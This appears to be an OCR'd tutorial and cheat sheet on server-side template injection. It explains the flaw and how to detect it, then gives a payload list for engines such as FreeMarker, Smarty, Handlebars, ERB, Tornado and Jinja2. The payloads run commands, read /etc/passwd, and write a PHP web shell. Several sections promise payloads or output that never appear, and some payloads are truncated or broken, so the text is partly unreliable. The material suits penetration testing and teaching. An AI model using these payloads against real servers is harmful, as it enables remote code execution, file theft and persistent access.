Server Side Template Injection (SSTI)

How to explore Server Side Template Injection (SSTI) vulnerabilities.

Server-side template injection is a vulnerability where the attacker injects malicious input into a template to execute commands on the server-side. This vulnerability occurs when invalid user input is embedded into the template engine which can generally lead to remote code execution (RCE).

How SSTI works

Template engines are designed to combine templates with a data model to produce result documents which help to populate dynamic data into web pages.

Template engines are:

  • PHP–Smarty,Twigs

  • JAVA–Velocity,Freemaker

  • Python–JINJA,Mako,Tornado • JavaScript–Jade,Rage

  • Ruby-LiquidHow to explore SSTI?

SSTI can be injected everywhere, e.g., fuzzing an HTTP parameter.

POST /endpoint HTTP/1.1

To detect this vulnerability, we can use the following chars:


Potential exploitation scenario:

POST /some-endpoint HTTP/1.1

Potential crash:

If the error message is not displaying the template engine, we can test via known syntaxes for the popular template engines:

=<%= 7*3 %>

Check out everytime the documentation of the manual for the template engine (which is Django in this case) and use the following payload to read the debug output:

POST /some-endpoint HTTP/1.1
parameter={% debug %}The output of the payload above is the following:

Read the secret key using the ‘settings’ object that’s available:

POST /some-endpoint HTTP/1.1

Methodology of finding SSTI flaws

To identify the vulnerability, the following to-do list can be followed:

  • Detect where the template injection exist

  • Identify the template engine and validate the vulnerability

  • Follow the manuals for the specific template engine

  • Exploit the vulnerability

The following cheat sheet can be used to identify the template engine in use:

Automated ToolsTplmap assists in the exploitation of Code Injection and Server-Side Template Injection vulnerabilities with several sandbox escape techniques to get access to the underlying operating system.

The tool and its test suite are developed to research the SSTI vulnerability class and to be used as offensive security tools during web application penetration tests.

For more information, please check the GitHub repository for the tool here.



FreeMarker (Java):
${7*7} = 49
<#assign command="freemarker.template.utility.Execute"?new()> ${ command("cat /etc/passwd") }

${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(" ")}

Twig (PHP):

Smarty (PHP):
{php}echo `id`;{/php}{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['cmd']); ?>",self::clearConfig())}

Handlebars (NodeJS):
wrtz{{#with "s" as |string|}}
{{#with "e"}}
{{#with split as |conslist|}}
{{this.push (lookup string.sub "constructor")}}
{{#with string.split as |codelist|}}
{{this.push "return require('child_process').exec('whoami');"}}
{{#each conslist}}
{{#with (string.sub.apply 0 codelist)}}

#foreach($i in [1..$out.available()])

ERB (Ruby):
<%= system("whoami") %><%= Dir.entries('/') %>
<%='/example/arbitrary-file').read %>

Django Tricks (Python):
{% debug %}

Tornado (Python):
{% import foobar %} = Error
{% import os %}{{os.system('whoami')}}

Mojolicious (Perl):
<%= perl code %>
<% perl code %>

Flask/Jinja2: Identify:
{{ '7'*7 }}
{{ [].class.base.subclasses() }} # get all classes
{%for c in [1,2,3] %}{{c,c,c}}{% endfor %}

{{ ''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read() }}

#{root.process.mainModule.require('child_process').spawnSync('cat', ['/etc/passwd']).stdout}

Razor (.Net):
@{// C# code}

For more payloads,please refer to here.


Last updated